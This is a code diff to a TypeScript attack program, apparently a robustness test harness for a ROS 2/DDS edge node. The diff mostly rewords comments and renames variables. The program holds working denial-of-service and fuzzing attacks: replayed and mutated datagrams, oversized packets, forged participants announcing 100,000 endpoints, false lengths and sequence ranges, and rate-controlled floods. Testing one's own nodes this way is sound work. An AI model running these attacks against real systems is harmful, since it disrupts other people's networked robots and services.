@@ -1,6 +1,6 @@
 /**
- * Sends what no honest participant sends to the node at an address: `attacker-program.ts ATTACK ADDRESS`. Some attacks listen to the group
- * first. Says `begins` when it does, then how many datagrams it has sent as a line of JSON, and ends.
+ * Sends hostile datagrams to the node at an address: `attacker-program.ts ATTACK ADDRESS`. Some attacks listen to the multicast group
+ * first. Prints `begins` at the start of the attack, then the number of sent datagrams as a line of JSON, and ends.
  */
 import { createSocket, type Socket } from 'node:dgram';
 import { networkInterfaces } from 'node:os';
@@ -13,11 +13,11 @@ import { ENTITY, type EntityId, type GuidPrefix, MULTICAST_GROUP, PID, ports } f
 const TOPIC = { topic: 'rt/health_status', type: 'edge_health_interfaces::msg::dds_::HealthStatus_' };
 const PORTS = [ports.metaMulticast(0), ports.metaUnicast(0, 0), ports.userUnicast(0, 0)] as const;
 const [META, USER] = [PORTS[1], PORTS[2]];
-/** The most that UDP over IPv4 carries. */
+/** Maximum payload of UDP over IPv4. */
 const LARGEST = 65_507;
 const DATAGRAMS_PER_MILLISECOND = 4;
 const INFO_DST = 0x0e;
-/** Of those that might be taken for real. */
+/** Lease of the forged participants that the node may accept. */
 const LEASE_SECONDS = 20;
 
 const [attack = '', target = ''] = process.argv.slice(2);
@@ -25,21 +25,21 @@ const random = randomFrom(20_260_304);
 const below = (limit: number): number => Math.floor(random() * limit);
 const noise = (octets: number): Buffer => Buffer.from(Array.from({ length: octets }, () => below(256)));
 
-/** Listens to the group for so many seconds, and until the node was heard: its identity, and everything that was sent meanwhile. */
-function listen(socket: Socket, seconds: number): Promise<{ node: GuidPrefix; heard: Buffer[] }> {
-  const heard: Buffer[] = [];
+/** Listens to the group for `seconds`, and until the node has sent: returns its GUID prefix and all datagrams. */
+function listen(socket: Socket, seconds: number): Promise<{ node: GuidPrefix; captured: Buffer[] }> {
+  const captured: Buffer[] = [];
   let node: GuidPrefix | null = null;
   const until = performance.now() + seconds * 1000;
   return new Promise((resolve) => {
     socket.on('message', (datagram, { address }) => {
-      heard.push(Buffer.from(datagram));
+      captured.push(Buffer.from(datagram));
       if (address === target) node = datagram.toString('hex', 8, 20);
-      if (node && performance.now() >= until) resolve({ node, heard });
+      if (node && performance.now() >= until) resolve({ node, captured });
     });
   });
 }
 
-/** The same datagram as if it had been meant for the node. */
+/** A copy of the datagram with the node as its destination (INFO_DST). */
 function readdressed(datagram: Buffer, node: GuidPrefix): Buffer {
   const copy = Buffer.from(datagram);
   for (let at = 20; at + 4 <= copy.length; ) {
@@ -52,14 +52,14 @@ function readdressed(datagram: Buffer, node: GuidPrefix): Buffer {
   return copy;
 }
 
-/** A datagram with something wrong: octets, its end, lengths, or all of it. */
+/** A mutated copy of a datagram: octets, end, lengths or everything. */
 function mutated(datagram: Buffer): Buffer {
   const copy = Buffer.from(datagram);
   const kind = below(6);
   if (kind === 0) return copy.subarray(0, below(copy.length));
   if (kind === 1) return Buffer.concat([copy, noise(below(1000))]);
   if (kind === 2) return Buffer.concat([copy.subarray(0, 20), noise(below(600))]);
-  // Two octets somewhere, which are often a length.
+  // Two octets at a random offset, which often hit a length.
   if (kind === 3) copy.writeUInt16LE([0, 1, 3, 0x7fff, 0xfffc, 0xffff][below(6)] ?? 0, below(copy.length - 2));
   else if (kind === 4) copy.writeUInt32LE([0, 0x7fffffff, 0xffffffff, 0x80000000][below(4)] ?? 0, below(copy.length - 4));
   else for (let i = below(12); i >= 0; i -= 1) copy[below(copy.length)] = below(256);
@@ -69,12 +69,12 @@ function mutated(datagram: Buffer): Buffer {
 const data = (prefix: GuidPrefix, writer: EntityId, number: number, payload: Uint8Array, flags = 4): Buffer =>
   message(prefix, submessage(0x15, [u16(0), u16(16), entity(ENTITY.UNKNOWN), entity(writer), sn(number), payload], { flags }));
 
-/** A parameter list with its encapsulation header: ids, and values that may say another length than they have. */
-function parameters(...list: readonly (readonly [id: number, value: Uint8Array, says?: number])[]): Buffer {
-  const parts = list.map(([id, value, says]) => {
+/** A parameter list with its encapsulation header. `length` may differ from the length of the value. */
+function parameters(...list: readonly (readonly [id: number, value: Uint8Array, length?: number])[]): Buffer {
+  const parts = list.map(([id, value, length]) => {
     const head = Buffer.alloc(4);
     head.writeUInt16LE(id, 0);
-    head.writeUInt16LE(says ?? value.length, 2);
+    head.writeUInt16LE(length ?? value.length, 2);
     return Buffer.concat([head, value]);
   });
   return Buffer.concat([Buffer.from([0, 3, 0, 0]), ...parts, Buffer.from([PID.SENTINEL, 0, 0, 0])]);
@@ -107,19 +107,19 @@ function* oversized(): Generator<readonly [Buffer, number]> {
   for (let i = 0; i < 600; i += 1) yield [shapes[i % shapes.length] as Buffer, PORTS[i % 3] ?? META];
 }
 
-function* replayed(node: GuidPrefix, heard: readonly Buffer[]): Generator<readonly [Buffer, number]> {
+function* replayed(node: GuidPrefix, captured: readonly Buffer[]): Generator<readonly [Buffer, number]> {
   const real = recorded().map(({ datagram }) => readdressed(datagram, node));
-  for (let round = 0; round < 100; round += 1) for (const datagram of heard) yield [datagram, PORTS[0]];
+  for (let round = 0; round < 100; round += 1) for (const datagram of captured) yield [datagram, PORTS[0]];
   for (let round = 0; round < 10; round += 1) for (const datagram of real) yield [datagram, PORTS[1 + (round % 2)] ?? META];
 }
 
-/** A participant that announces a hundred thousand endpoints, many to a datagram. */
+/** A participant that announces 100,000 endpoints, 100 per datagram. */
 function* endpoints(stranger: ForgedParticipant): Generator<readonly [Buffer, number]> {
   const [total, perDatagram] = [100_000, 100];
   for (let first = 0; first < total; first += perDatagram) {
     const all = Array.from({ length: perDatagram }, (_, i) => {
       const key = first + i + 1;
-      // Readers of its topics, writers of topics that it would gather, and of others.
+      // Readers of the topics of the node, writers of topics that it would subscribe to, and of others.
       const topic = [TOPIC.topic, `rt/x${key}/health_status`, `rt/x${key}/chatter`][key % 3] ?? '';
       return stranger.endpoint(key % 3 !== 0, key, { ...TOPIC, topic });
     });
@@ -136,7 +136,7 @@ function* participants(): Generator<readonly [Buffer, number]> {
   }
 }
 
-/** Messages whose lengths and numbers lie, from a participant that is matched with the node's endpoints. */
+/** Messages with false lengths and numbers, from a participant that is matched with the endpoints of the node. */
 function* lies(stranger: ForgedParticipant): Generator<readonly [Buffer, number]> {
   const { prefix } = stranger;
   yield [stranger.endpoint(true, 1, TOPIC), META];
@@ -153,13 +153,13 @@ function* lies(stranger: ForgedParticipant): Generator<readonly [Buffer, number]
       data(prefix, writer, number, Buffer.concat([Buffer.from([0, 1, 0, 0]), doubles, noise(4), noise(below(60))])),
       data(prefix, writer, number, Buffer.from([0, below(12), 0, 0])),
       data(prefix, writer, number, noise(below(8)), 4 | 2),
-      // Submessages that say more than they have, offsets that point behind them.
+      // Submessages with a length beyond their content, offsets that point beyond them.
       message(prefix, submessage(0x15, [...own, sn(number)], { says: below(0x10000), flags: below(256) })),
       message(prefix, submessage(0x15, [u16(0), u16(below(0x10000)), ...own, sn(number), noise(20)], { flags: 6 })),
-      // Fragments of samples of gigabytes, of one octet each, and numbers beyond the end.
+      // Fragments: of samples of gigabytes, of one octet, with numbers beyond the end.
       message(prefix, submessage(0x16, [u16(0), u16(28), ...own, sn(number), u32(a), u16(below(65_536)), u16(1), u32(b), noise(40)])),
       message(prefix, submessage(0x16, [u16(0), u16(28), ...own, sn(number), u32(1), u16(1), u16(1024), u32(1024 * 1024), noise(1024)])),
-      // Heartbeats, gaps and requests from nowhere to infinity.
+      // Heartbeats, gaps and requests with extreme ranges.
       message(prefix, submessage(0x07, [...own, sn(below(3)), [8, 2 ** 52], u32(i)])),
       message(prefix, submessage(0x07, [...own, sn(1), sn(number), u32(i)])),
       message(prefix, submessage(0x08, [...own, sn(number), [8, 2 ** 52], u32(a), noise(32)])),
@@ -178,7 +178,7 @@ function* lies(stranger: ForgedParticipant): Generator<readonly [Buffer, number]
   }
 }
 
-/** What is right each on its own, and too much of it: samples, heartbeats, and requests for everything. */
+/** Valid messages at an excessive rate: samples, heartbeats, and requests for every sample. */
 function* flood(stranger: ForgedParticipant): Generator<readonly [Buffer, number]> {
   const introduction = [
     stranger.announcement('stranger', LEASE_SECONDS),
@@ -189,9 +189,10 @@ function* flood(stranger: ForgedParticipant): Generator<readonly [Buffer, number
   const sample = Buffer.concat([Buffer.from([0, 1, 0, 0]), Buffer.alloc(32), text('OK'), text('flood'), text('2026-03-04T05:06:07.089Z')]);
   for (let i = 1; i <= 4000; i += 1) {
     yield [data(stranger.prefix, 0x103, i, sample), USER];
-    yield [stranger.heartbeat(0x103, 1, i), USER];
+    // A writer that keeps fifty samples: whoever learns of it late, or has lost some, goes on with those.
+    yield [stranger.heartbeat(0x103, Math.max(1, i - 49), i), USER];
     for (const key of [2, 3, 4, 5]) yield [stranger.request(0x204, (key << 8) | 3, 1), USER];
-    // Once more, since the first ones may have been lost on the way.
+    // Repeated, because the first ones may have been lost.
     if (i % 100 === 0) for (const datagram of introduction) yield [datagram, META];
     if (i % 100 === 0) yield [stranger.announcement(`flood${i}`, LEASE_SECONDS), PORTS[0]];
   }
@@ -205,8 +206,8 @@ function text(value: string): Buffer {
   return counted;
 }
 
-/** A participant at this machine's address that answers what it is sent: nothing else is read of one that does not. */
-async function introduced(number: number): Promise<ForgedParticipant> {
+/** A participant at the address of this machine that responds to the node, which ignores participants that do not. */
+async function introduceParticipant(number: number): Promise<ForgedParticipant> {
   const own = Object.values(networkInterfaces())
     .flatMap((addresses) => addresses ?? [])
     .find(({ family, internal }) => family === 'IPv4' && !internal);
@@ -217,7 +218,7 @@ async function introduced(number: number): Promise<ForgedParticipant> {
     socket.on('message', (datagram, { address, port }) => {
       const answer = stranger.answer(datagram);
       if (answer) socket.send(answer, port, address);
-      // What comes next is data, after which it has nothing more to answer.
+      // Data follows, after which no response is needed.
       if (!answer || datagram.includes('HealthStatus_')) proven();
     });
     socket.send(stranger.announcement('stranger', LEASE_SECONDS), META, target);
@@ -226,30 +227,30 @@ async function introduced(number: number): Promise<ForgedParticipant> {
   return stranger;
 }
 
-/** The attacks that need to know something of those whom they imitate. */
-async function listening(): Promise<Iterable<readonly [Buffer, number]>> {
+/** The attacks that need captured datagrams of the node. */
+async function captureFirst(): Promise<Iterable<readonly [Buffer, number]>> {
   const group = createSocket({ type: 'udp4', reuseAddr: true });
   group.bind(PORTS[0], () => group.addMembership(MULTICAST_GROUP));
-  const { node, heard } = await listen(group, 4);
+  const { node, captured } = await listen(group, 4);
   group.close();
-  return attack === 'rubbish' ? rubbish(node) : replayed(node, heard);
+  return attack === 'rubbish' ? rubbish(node) : replayed(node, captured);
 }
 
 async function main(): Promise<void> {
   const attacks = {
-    rubbish: listening,
-    replayed: listening,
+    rubbish: captureFirst,
+    replayed: captureFirst,
     oversized,
-    endpoints: async () => endpoints(await introduced(2)),
+    endpoints: async () => endpoints(await introduceParticipant(2)),
     participants,
-    lies: async () => lies(await introduced(3)),
-    flood: async () => flood(await introduced(4)),
+    lies: async () => lies(await introduceParticipant(3)),
+    flood: async () => flood(await introduceParticipant(4)),
   };
   const make = attacks[attack as keyof typeof attacks];
   if (!make) throw new Error(`attacks: ${Object.keys(attacks).join(', ')}`);
   const datagrams = await make();
   const socket = createSocket({ type: 'udp4', lookup: (address, _, done) => done(null, address, 4) });
-  // The node may answer: whether somebody is there is nothing to stumble over.
+  // Ignores ICMP errors while no node listens.
   socket.on('error', () => {});
   let [sent, octets] = [0, 0];
   const begun = performance.now();
@@ -258,7 +259,7 @@ async function main(): Promise<void> {
     socket.send(datagram, port, target, () => {});
     sent += 1;
     octets += datagram.length;
-    // As fast as a fast network, and not so fast that all of it is lost on the way.
+    // Limits the rate to that of a fast network, so that the socket buffers do not drop most datagrams.
     if (sent % 16 === 0 || datagram.length > 8192) {
       const ahead = Math.max(sent / DATAGRAMS_PER_MILLISECOND, octets / 20_000) - (performance.now() - begun);
       await new Promise((later) => setTimeout(later, Math.max(0, ahead)));
